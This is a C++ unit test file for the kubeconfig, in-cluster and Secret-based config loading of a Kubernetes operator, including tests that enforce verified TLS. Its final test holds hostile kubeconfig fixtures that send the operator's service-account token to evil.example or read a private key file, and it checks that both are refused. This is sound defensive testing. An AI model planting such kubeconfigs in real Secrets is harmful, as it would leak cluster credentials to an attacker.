#include <gtest/gtest.h>

#include <boost/json.hpp>
#include <map>
#include <tuple>

#include "api/base64.h"
#include "api/temp_dir.h"
#include "kube/config/rest_config.h"

namespace flotilla::kube {
namespace {

using api::testing::TempDir;

EnvLookup fakeEnv(std::map<std::string, std::string> values) {
  return [values](const std::string& name) -> std::optional<std::string> {
    auto it = values.find(name);
    if (it == values.end()) return std::nullopt;
    return it->second;
  };
}

const char* kTwoContexts = R"(
apiVersion: v1
kind: Config
current-context: host
clusters:
- name: host
  cluster:
    server: https://127.0.0.1:6443/prefix
    certificate-authority-data: Q0EtUEVN
- name: member
  cluster:
    server: https://10.0.0.2:443
    certificate-authority: certs/ca.pem
    insecure-skip-tls-verify: true
    tls-server-name: member.example
users:
- name: admin
  user:
    token: abc123
- name: cert-user
  user:
    client-certificate: certs/client.pem
    client-key-data: S0VZ
contexts:
- name: host
  context: {cluster: host, user: admin, namespace: team-a}
- name: member
  context: {cluster: member, user: cert-user}
)";

TEST(Kubeconfig, CurrentContextWithInlineDataAndPathPrefix) {
  auto config = kubeconfigFromText(kTwoContexts, "");
  ASSERT_TRUE(config) << config.error().message;
  EXPECT_EQ(config->server, "https://127.0.0.1:6443/prefix");
  EXPECT_EQ(config->caPem, "CA-PEM");
  EXPECT_EQ(config->token, "abc123");
  EXPECT_EQ(config->defaultNamespace, "team-a");
  EXPECT_FALSE(config->insecureSkipVerify);
  EXPECT_EQ(config->source, "kubeconfig context host");
}

TEST(Kubeconfig, ContextOverrideResolvesFilesRelativeToTheKubeconfig) {
  TempDir dir;
  dir.write("certs/ca.pem", "MEMBER-CA");
  dir.write("certs/client.pem", "CLIENT-CERT");
  const auto path = dir.write("config", kTwoContexts);
  auto config = loadKubeconfig({{path}, "member"}, fakeEnv({}));
  ASSERT_TRUE(config) << config.error().message;
  EXPECT_EQ(config->server, "https://10.0.0.2:443");
  EXPECT_EQ(config->caPem, "MEMBER-CA");
  EXPECT_TRUE(config->insecureSkipVerify);
  EXPECT_EQ(config->tlsServerName, "member.example");
  EXPECT_EQ(config->certPem, "CLIENT-CERT");
  EXPECT_EQ(config->keyPem, "KEY");
  EXPECT_TRUE(config->token.empty());
}

TEST(Kubeconfig, KubeconfigVariableMergesFilesFirstDefinitionWins) {
  TempDir dir;
  const auto first = dir.write("a", R"(
clusters:
- name: shared
  cluster: {server: "https://first:6443"}
users:
- name: u
  user: {tokenFile: token.txt}
contexts:
- name: c1
  context: {cluster: shared, user: u}
)");
  const auto second = dir.write("b", R"(
current-context: c1
clusters:
- name: shared
  cluster: {server: "https://second:6443"}
contexts:
- name: c1
  context: {cluster: other, user: nobody}
)");
  const std::string missing = (dir.path() / "missing").string();
  auto config = loadKubeconfig(
      {}, fakeEnv({{"KUBECONFIG", first.string() + ":" + missing + ":" + second.string()}}));
  ASSERT_TRUE(config) << config.error().message;
  EXPECT_EQ(config->server, "https://first:6443");         // first file's cluster and context win
  EXPECT_EQ(config->tokenFile, dir.path() / "token.txt");  // relative to its own file
}

TEST(Kubeconfig, HomeDefaultAndErrors) {
  TempDir dir;
  dir.write(".kube/config", kTwoContexts);
  auto fromHome = loadKubeconfig({}, fakeEnv({{"HOME", dir.path().string()}}));
  ASSERT_TRUE(fromHome) << fromHome.error().message;
  EXPECT_EQ(fromHome->token, "abc123");

  auto unknown = kubeconfigFromText(kTwoContexts, "nope");
  ASSERT_FALSE(unknown);
  EXPECT_NE(unknown.error().message.find("context \"nope\" does not exist"), std::string::npos);

  auto noCurrent = kubeconfigFromText("clusters: []\n", "");
  ASSERT_FALSE(noCurrent);
  EXPECT_NE(noCurrent.error().message.find("no current-context"), std::string::npos);

  auto exec = kubeconfigFromText(R"(
current-context: c
clusters: [{name: k, cluster: {server: "https://k"}}]
users: [{name: u, user: {exec: {command: aws}}}]
contexts: [{name: c, context: {cluster: k, user: u}}]
)",
                                 "");
  ASSERT_FALSE(exec);
  EXPECT_NE(exec.error().message.find("exec or auth-provider plugin"), std::string::npos);

  auto badYaml = kubeconfigFromText("clusters: [", "");
  ASSERT_FALSE(badYaml);
  EXPECT_NE(badYaml.error().message.find("line"), std::string::npos) << badYaml.error().message;

  auto missingFile = loadKubeconfig({{dir.path() / "nope"}, ""}, fakeEnv({}));
  ASSERT_FALSE(missingFile);
  EXPECT_NE(missingFile.error().message.find("cannot read kubeconfig"), std::string::npos);

  auto missingCa = loadKubeconfig({{dir.path() / ".kube/config"}, "member"}, fakeEnv({}));
  ASSERT_FALSE(missingCa);
  EXPECT_NE(missingCa.error().message.find("certificate-authority"), std::string::npos);
}

TEST(InClusterConfig, ServiceAccountFilesAndServiceHost) {
  TempDir dir;
  dir.write("token", "sa-token");
  dir.write("ca.crt", "SA-CA");
  dir.write("namespace", "flotilla-system");
  auto config = inClusterConfig(
      fakeEnv({{"KUBERNETES_SERVICE_HOST", "fd00::1"}, {"KUBERNETES_SERVICE_PORT", "443"}}),
      dir.path());
  ASSERT_TRUE(config) << config.error().message;
  EXPECT_EQ(config->server, "https://[fd00::1]:443");
  EXPECT_EQ(config->tokenFile, dir.path() / "token");  // re-read by the client (rotation)
  EXPECT_EQ(config->caPem, "SA-CA");
  EXPECT_EQ(config->defaultNamespace, "flotilla-system");

  auto outside = inClusterConfig(fakeEnv({}), dir.path());
  ASSERT_FALSE(outside);
  EXPECT_NE(outside.error().message.find("not running in a cluster"), std::string::npos);
}

TEST(ConfigFromSecret, TokenAndCaBundleOrKubeconfig) {
  namespace json = boost::json;
  json::object tokenSecret{{"data", json::object{{"token", api::base64Encode("tok\n")},
                                                 {"caBundle", api::base64Encode("CA")}}}};
  auto config = configFromSecret(tokenSecret, "https://127.0.0.1:7001", false);
  ASSERT_TRUE(config) << config.error().message;
  EXPECT_EQ(config->server, "https://127.0.0.1:7001");
  EXPECT_EQ(config->token, "tok");
  EXPECT_EQ(config->caPem, "CA");

  json::object kubeconfigSecret{
      {"data", json::object{{"kubeconfig", api::base64Encode(kTwoContexts)}}}};
  auto viaKubeconfig = configFromSecret(kubeconfigSecret, "", false);
  ASSERT_TRUE(viaKubeconfig) << viaKubeconfig.error().message;
  EXPECT_EQ(viaKubeconfig->server, "https://127.0.0.1:6443/prefix");
  EXPECT_EQ(viaKubeconfig->token, "abc123");
  EXPECT_FALSE(viaKubeconfig->insecureSkipVerify);
  EXPECT_FALSE(configFromSecret(kubeconfigSecret, "", true));  // insecureSkipTLSVerify: refused

  auto empty = configFromSecret(json::object{{"data", json::object{}}}, "https://x", false);
  ASSERT_FALSE(empty);
  EXPECT_NE(empty.error().message.find("neither data.kubeconfig nor data.token"),
            std::string::npos);
  auto notBase64 =
      configFromSecret(json::object{{"data", json::object{{"token", "%%%"}}}}, "https://x", false);
  ASSERT_FALSE(notBase64);
  EXPECT_NE(notBase64.error().message.find("not valid base64"), std::string::npos);
}

// Credentials go out over verified TLS only (docs/security.md, L1): whoever writes the
// FederatedCluster or the Secret cannot turn that off, and an http endpoint is refused.
TEST(ConfigFromSecret, NeverSendsCredentialsUnverified) {
  namespace json = boost::json;
  const json::object tokenSecret{{"data", json::object{{"token", api::base64Encode("tok")}}}};
  for (const auto& [endpoint, insecure, wanted] :
       {std::tuple{"http://10.0.0.1:8080", false, "is not https"},
        std::tuple{"HTTP://10.0.0.1", false, "is not https"},
        std::tuple{"https://10.0.0.1", true,
                   "spec.insecureSkipTLSVerify turns TLS verification"}}) {
    auto config = configFromSecret(tokenSecret, endpoint, insecure);
    ASSERT_FALSE(config) << endpoint;
    EXPECT_NE(config.error().message.find(wanted), std::string::npos) << config.error().message;
    EXPECT_EQ(config.error().message.find("tok"), std::string::npos);
  }
  const std::string plain = R"(
clusters: [{name: c, cluster: {server: "http://10.0.0.1:8080"}}]
users: [{name: u, user: {token: t}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
)";
  const json::object kubeconfigSecret{
      {"data", json::object{{"kubeconfig", api::base64Encode(plain)}}}};
  EXPECT_FALSE(configFromSecret(kubeconfigSecret, "", false));
  // The kubeconfig's insecure-skip-tls-verify cannot turn verification off either.
  const std::string insecure = R"(
clusters: [{name: c, cluster: {server: "https://10.0.0.1", insecure-skip-tls-verify: true}}]
users: [{name: u, user: {token: t}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
)";
  auto skipped = configFromSecret(
      json::object{{"data", json::object{{"kubeconfig", api::base64Encode(insecure)}}}}, "", false);
  ASSERT_FALSE(skipped);
  EXPECT_NE(skipped.error().message.find("the kubeconfig's insecure-skip-tls-verify"),
            std::string::npos);
  // apiEndpoint replaces the kubeconfig's server, so an https one makes it acceptable.
  EXPECT_TRUE(configFromSecret(kubeconfigSecret, "https://10.0.0.1:6443", false));
}

// A member's Secret is outside data: a kubeconfig in it that names local files would have the
// operator read them and send them (its own ServiceAccount token) to the member's endpoint.
TEST(ConfigFromSecret, AKubeconfigInASecretMayNotNameLocalFiles) {
  namespace json = boost::json;
  const std::string tokenFile = R"(
clusters: [{name: c, cluster: {server: "https://evil.example:443", certificate-authority-data: Q0E=}}]
users: [{name: u, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
)";
  auto stolen = configFromSecret(
      json::object{{"data", json::object{{"kubeconfig", api::base64Encode(tokenFile)}}}}, "",
      false);
  ASSERT_FALSE(stolen);
  EXPECT_NE(stolen.error().message.find("tokenFile names a local file"), std::string::npos)
      << stolen.error().message;
  const std::string caFile = R"(
clusters: [{name: c, cluster: {server: "https://x", certificate-authority: /etc/ssl/private/key.pem}}]
users: [{name: u, user: {token: t}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
)";
  auto read = configFromSecret(
      json::object{{"data", json::object{{"kubeconfig", api::base64Encode(caFile)}}}}, "", false);
  ASSERT_FALSE(read);
  EXPECT_NE(read.error().message.find("certificate-authority names a local file"),
            std::string::npos)
      << read.error().message;
  // The same kubeconfig from the operator's own --kubeconfig may name files.
  EXPECT_TRUE(kubeconfigFromText(tokenFile, ""));
}

}  // namespace
}  // namespace flotilla::kube
